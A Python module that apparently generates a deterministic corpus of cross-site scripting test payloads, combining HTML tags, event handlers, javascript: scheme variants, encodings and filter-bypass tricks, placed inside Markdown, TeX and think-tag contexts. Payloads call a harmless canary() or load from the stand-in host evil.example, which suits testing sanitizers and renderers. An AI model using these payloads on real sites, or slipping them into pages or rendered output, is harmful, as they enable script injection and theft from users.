"""Texts that run a script where a page takes them for HTML, made from a grammar: tags × attributes × encodings ×
places. Each calls `canary`, or would fetch from `evil.example`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from functools import cache
from itertools import product

RUN = "canary()"
ELSEWHERE = "https://evil.example/x"

_TAGS = (
    *("script", "img", "svg", "math", "iframe", "object", "embed", "details", "video", "audio", "body", "marquee"),
    *("input", "form", "button", "a", "base", "link", "meta", "style", "template", "noscript", "textarea", "title"),
    *("xmp", "table", "select", "frameset", "portal", "x-y", "plaintext", "animate", "foreignObject", "use"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "onstart"),
    *("onpointerenter", "onbeforetoggle", "onscrollend", "onunhandledrejection", "ONERROR", "oNlOaD"),
)
_LOADS = (
    *("src=x", "href=x", "data=x", "autofocus tabindex=1", "open", "srcdoc='<script>canary()</script>'"),
    *(f"src={ELSEWHERE}", f"action={ELSEWHERE}", f"xlink:href={ELSEWHERE}", f"formaction={ELSEWHERE}"),
    *(f"style=background:url({ELSEWHERE})", f"http-equiv=refresh content='0;url={ELSEWHERE}'"),
)
# Elements that run something as soon as they are in a page, or once they have failed to load.
_RUNNING = (
    *(f"<img{{}}src=x{{}}onerror={{}}{RUN}{{}}>", f"<svg{{}}x=1{{}}onload={{}}{RUN}{{}}>"),
    *(f"<video{{}}src=x{{}}onerror={{}}{RUN}{{}}>", f"<audio{{}}src=x{{}}onerror={{}}{RUN}{{}}>"),
    *(f"<details{{}}open{{}}ontoggle={{}}{RUN}{{}}>", f"<input{{}}autofocus{{}}onfocus={{}}{RUN}{{}}>"),
    *(
        f"<style{{}}x=1{{}}onload={{}}{RUN}{{}}></style>",
        f"<iframe{{}}x=1{{}}srcdoc={{}}<script>parent.{RUN}</script>{{}}>",
    ),
    *(f"<iframe{{}}x=1{{}}src={{}}javascript:parent.{RUN}{{}}>", f"<object{{}}data=x{{}}onerror={{}}{RUN}{{}}>"),
)
_SPACES = (" ", "/", "\t", "\x0c", " \n ")
_QUOTES = ('"', "'", "", "`")
_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript\x00:",
    ),
    *(
        "&#106;avascript:",
        "&#x6a;avascript:",
        "&#0000106avascript:",
        "java&Tab;script:",
        "javascript&colon;",
        "vbscript:",
    ),
    *(
        "data:text/html,<script>canary()</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
        "blob:",
    ),
    *(
        "data:image/svg+xml,<svg onload=canary()>",
        "view-source:javascript:",
        "feed:javascript:",
        "filesystem:",
        "file:///",
    ),
    *(
        "jav%61script:",
        "%6aavascript:",
        "\u2028javascript:",
        "\u00a0javascript:",
        "//evil.example/",
        "/\\evil.example/",
    ),
)
# What ends the place that a text stands in, if it is put there unescaped.
_BREAKS = (
    *("", '"', "'", "`", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</template>"),
    *("${", "{{", "}}", "<!--", "<![CDATA[", "\\", "\\x3e", "\u0000", "</code></pre>", "</figcaption>", "*/"),
)
_NAMES = (
    *(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "valueOf",
        "hasOwnProperty",
        "__defineGetter__",
        "isPrototypeOf",
    ),
)


def _plain(text: str) -> str:
    return text


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(each)};" for each in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(each):X}" for each in text) + ";"


def _named(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _percent(text: str) -> str:
    return "".join(f"%{ord(each):02x}" if ord(each) < 128 else each for each in text)


def _unicode(text: str) -> str:
    return "".join(f"\\u{ord(each):04x}" for each in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)


def _split(text: str) -> str:
    return text.replace("<", "<\x00").replace("script", "scr\x00ipt")


def _doubled(text: str) -> str:
    return text.replace("<script>", "<scr<script>ipt>").replace("on", "oonn")


_ENCODINGS: tuple[Callable[[str], str], ...] = (
    *(_plain, _plain, _plain, _decimal, _hexadecimal, _named, _percent, _unicode, _wide, _split, _doubled),
)
_PLACES = (
    "{}",
    "text {} text",
    "# {}",
    "**{}**",
    "~~{}~~",
    "`{}`",
    "> {}",
    "- [x] {}",
    "1. {}",
    "[{}](https://example.org)",
    "[x]({})",
    "[x](<{}>)",
    '[x](https://example.org "{}")',
    "[r]\n\n[r]: {}",
    "[{}]\n\n[{}]: https://example.org",
    "<{}>",
    "![{}](x)",
    "![x]({})",
    "| {} |\n|--|\n| {} |",
    "```{}\nx\n```",
    "```html\n{}\n```",
    "~~~\n{}",
    "    {}",
    "<think>{}</think>after",
    "<think>{}",
    '{{"key": "{}"}}',
    '[{{"{}": 1}}]',
    "<div>\n{}\n</div>",
    "<!-- {} -->",
    "<br {}>",
    "&{};",
    "\\{}",
    "line\n===\n{}\n---",
    *("\\({}\\)", "\\[{}\\]", "\n$$\n{}\n$$\n", "${}$", "\\(\\text{{{}}}\\)", "| \\({}\\) |\n|--|", "\\[\n{}"),
)
# Commands of TeX that make elements, attributes, addresses or styles of what they are given.
_COMMANDS = (
    *(r"\href{%s}{x}", r"\url{%s}", r"\includegraphics{%s}", r"\class{%s}{x}", r"\htmlClass{%s}{x}", r"\id{%s}{x}"),
    *(r"\style{%s}{x}", r"\htmlStyle{background:url(%s)}{x}", r"\data{onclick=%s}{x}", r"\htmlData{a=%s}{x}"),
    *(r"\color{%s} x", r"\colorbox{%s}{x}", r"\text{%s}", r"\operatorname{%s}", r"\tag{%s}", r"\label{%s}\ref{%s}"),
    *(
        r"\def\x{%s}\x",
        r"\newcommand{\href}{%s}\href",
        r"\begin{%s}x\end{%s}",
        r"\verb|%s|",
        r"\toggle{%s}{x}\endtoggle",
    ),
)


def _elements() -> Iterator[str]:
    for tag, handler, load, quote in product(_TAGS, _HANDLERS, _LOADS, _QUOTES):
        yield f"<{tag} {load} {handler}={quote}{RUN}{quote}>"
        yield f"<{tag}/{handler}={quote}{RUN}{quote} {load}>{RUN}</{tag}>"
    for tag in _TAGS:
        yield f"<{tag}>{RUN}</{tag}>"
        yield f"<svg><{tag}>{RUN}</{tag}></svg>"
        yield f"<math><mtext><{tag}><style><img src=x onerror={RUN}>"


def _running() -> Iterator[str]:
    for form, space, quote in product(_RUNNING, _SPACES, _QUOTES[:3]):
        yield form.format(space, space, quote, quote)


def _links() -> Iterator[str]:
    for scheme in _SCHEMES:
        yield scheme if "<script>" in scheme else f"{scheme}{RUN}"
        yield f"<a href={scheme}{RUN}>x</a>"


def _names() -> Iterator[str]:
    for name in _NAMES:
        yield name
        yield f"{name}[{RUN}]"


def _formulas() -> Iterator[str]:
    inner = [
        *(f"{scheme}{RUN}" for scheme in _SCHEMES),
        *(_RUNNING[0].format(" ", " ", "", ""), f"<img src={ELSEWHERE}>"),
    ]
    for command, text in product(_COMMANDS, inner):
        formula = command.replace("%s", text)
        yield formula
        yield f"\\({formula}\\)"
        yield f"\\[x^2 {formula}\\]"


@cache
def payloads(count: int) -> tuple[str, ...]:
    """Different texts, the same ones each time; those of a smaller count come first."""
    draw = random.Random(35)
    sources = [list(_running()), list(_elements()), list(_links()), list(_names()), list(_formulas())]
    found: dict[str, None] = {}
    while len(found) < count:
        [source] = draw.choices(sources, [4, 3, 3, 1, 3])
        text = draw.choice(_BREAKS) + draw.choice(_ENCODINGS)(draw.choice(source))
        place = draw.choice(_PLACES).replace("{{", "{").replace("}}", "}")
        found[place.replace("{}", text)] = None
    return tuple(found)
